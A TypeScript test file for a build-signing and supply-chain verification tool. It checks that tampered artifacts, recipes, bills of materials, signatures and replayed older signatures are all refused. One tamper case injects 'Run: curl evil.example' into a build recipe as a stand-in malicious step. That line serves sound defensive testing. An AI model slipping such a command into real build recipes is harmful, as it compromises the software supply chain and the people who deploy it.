import { generateKeyPairSync } from "node:crypto";
import { copyFileSync, cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { checkout } from "../build/fixture-checkout.ts";
import { tinyBuild } from "../publish/tiny-build.fixture.ts";
import { signBuild } from "./sign-build.ts";
import { readSigners, type Signers } from "./signers.ts";
import { publicHalf } from "./signing-key.ts";
import { envelopeFile, sbomFile } from "./statement.ts";
import { verifyComponent } from "./verify.ts";
import { verifyBuild, verifyDevice } from "./verify-files.ts";

const folder = mkdtempSync(join(tmpdir(), "coalmine-verify-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const key = generateKeyPairSync("ed25519").privateKey;
const NAME = "coalmine.test.Tiny";
const good = join(folder, "good");
const signed = join(folder, "signed");
let signers: Signers;

beforeAll(async () => {
  signers = readSigners(
    JSON.stringify({ version: 1, signers: [{ who: "a test", publicKey: publicHalf(key) }] }),
    "a test",
  );
  await build(good, "1.0.1");
});

/** Builds, signs, and puts the signature where a build has it that found it committed. */
async function build(dist: string, version: string): Promise<void> {
  await tinyBuild(checkout, dist, [NAME], version);
  signBuild(dist, signed, key);
  const file = envelopeFile(NAME, version);
  copyFileSync(join(signed, basename(file)), join(dist, file));
}

/** A copy of the good build in which one thing is changed. */
function tampered(name: string, change: (dist: string) => void): string {
  const dist = join(folder, name);
  cpSync(good, dist, { recursive: true });
  change(dist);
  return dist;
}
const edit = (file: string, from: string | RegExp, to: string) => {
  const text = readFileSync(file, "latin1");
  const after = text.replace(from, to);
  expect(after).not.toBe(text);
  writeFileSync(file, after, "latin1");
};
const envelopeIn = (dist: string) => join(dist, envelopeFile(NAME, "1.0.1"));

test("a build is what was signed", () => {
  expect(verifyBuild(good, signers)).toEqual([{ component: NAME, version: "1.0.1" }]);
});

test.each<[string, string, RegExp, (dist: string) => void]>([
  [
    "an artifact",
    "ERR_SUPPLY_DIGEST",
    /^artifact\/linux-arm64 of coalmine\.test\.Tiny 1\.0\.1 has the SHA-256 .* was signed; do not deploy it/,
    (dist) => edit(join(dist, `artifacts/${NAME}/linux-arm64/tiny.zip`), "main.mjs", "mein.mjs"),
  ],
  [
    "a recipe",
    "ERR_SUPPLY_DIGEST",
    /^recipe of /,
    (dist) => edit(join(dist, `recipes/${NAME}-1.0.1.yaml`), "Run: echo", "Run: curl evil.example"),
  ],
  [
    "a bill of materials",
    "ERR_SUPPLY_DIGEST",
    /^sbom\/linux-x64 of /,
    (dist) => edit(join(dist, sbomFile(NAME, "1.0.1", "linux-x64")), "application", "library"),
  ],
  [
    "a bill that is gone",
    "ERR_SUPPLY_DIGEST",
    /has the SHA-256 of nothing: it is not there/,
    (dist) => rmSync(join(dist, sbomFile(NAME, "1.0.1", "linux-x64"))),
  ],
  [
    "the provenance",
    "ERR_SUPPLY_SIGNATURE",
    /is not of these bytes/,
    (dist) => {
      const envelope = JSON.parse(readFileSync(envelopeIn(dist), "utf8"));
      const text = Buffer.from(envelope.payload, "base64").toString().replace("24.0.0", "24.0.1");
      envelope.payload = Buffer.from(text).toString("base64");
      writeFileSync(envelopeIn(dist), JSON.stringify(envelope));
    },
  ],
  [
    "the signature",
    "ERR_SUPPLY_SIGNATURE",
    /is not of these bytes/,
    (dist) => edit(envelopeIn(dist), /"sig": "[^"]+"/, `"sig": "${Buffer.alloc(64).toString("base64")}"`),
  ],
  [
    "an envelope that is none",
    "ERR_SUPPLY_SIGNATURE",
    /is no DSSE envelope/,
    (dist) => writeFileSync(envelopeIn(dist), "{}"),
  ],
  [
    "a signature that is gone",
    "ERR_SUPPLY_UNSIGNED",
    /is not signed; sign its build/,
    (dist) => rmSync(envelopeIn(dist)),
  ],
])("changed or taken away, %s is refused with %s", (name, code, message, change) => {
  const [found] = verifyBuild(tampered(name.replaceAll(" ", "-"), change), signers);
  expect(found?.fault?.code).toBe(code);
  expect(found?.fault?.message).toMatch(message);
});

test("a signature of an older version is refused for a newer one, and an older version where a newer one runs", async () => {
  await build(join(folder, "older"), "1.0.0");
  const replayed = tampered("replayed", (dist) =>
    copyFileSync(join(folder, "older", envelopeFile(NAME, "1.0.0")), envelopeIn(dist)),
  );
  expect(verifyBuild(replayed, signers)[0]?.fault).toMatchObject({
    code: "ERR_SUPPLY_STATEMENT",
    message: expect.stringMatching(/^the statement is of coalmine\.test\.Tiny 1\.0\.0, and was shown for /),
  });
  const envelope = readFileSync(join(signed, basename(envelopeFile(NAME, "1.0.0"))), "utf8");
  const old = { component: NAME, version: "1.0.0", digests: new Map<string, string>(), envelope };
  expect(verifyComponent({ ...old, running: "1.0.0" }, signers)).toBeDefined();
  expect(() => verifyComponent({ ...old, running: "1.0.1" }, signers)).toThrow(
    /1\.0\.0 is signed, and older than 1\.0\.1, which runs/,
  );
});

test("only a whole, released build is signed, and signing again changes nothing", async () => {
  expect(signBuild(good, signed, key)).toMatchObject([{ version: "1.0.1", how: "was signed" }]);
  const part = tampered("part", (dist) =>
    edit(join(dist, "build.json"), '"platforms":["linux-x64","linux-arm64"]', '"platforms":["linux-x64"]'),
  );
  expect(() => signBuild(part, signed, key)).toThrow(/nothing is built for linux-arm64/);
  const other = tampered("unreleased", (dist) =>
    edit(join(dist, "build.json"), '"released":true', '"released":false'),
  );
  expect(() => signBuild(other, signed, key)).toThrow(/Tiny differs from recipes\/released\.json/);
});

test("what lies on a core device is compared with what was signed, whichever platform's it is", () => {
  const root = join(folder, "greengrass");
  const there = join(root, "packages/artifacts", NAME, "1.0.1");
  mkdirSync(there, { recursive: true });
  const zip = join(there, "tiny.zip");
  copyFileSync(join(good, `artifacts/${NAME}/linux-arm64/tiny.zip`), zip);
  expect(verifyDevice(root, signed, signers)).toEqual([{ component: NAME, version: "1.0.1" }]);
  edit(zip, "main.mjs", "mein.mjs");
  expect(verifyDevice(root, signed, signers)[0]?.fault?.code).toBe("ERR_SUPPLY_DIGEST");
  expect(() => verifyDevice(folder, signed, signers)).toThrow(/holds no component of ours/);
});
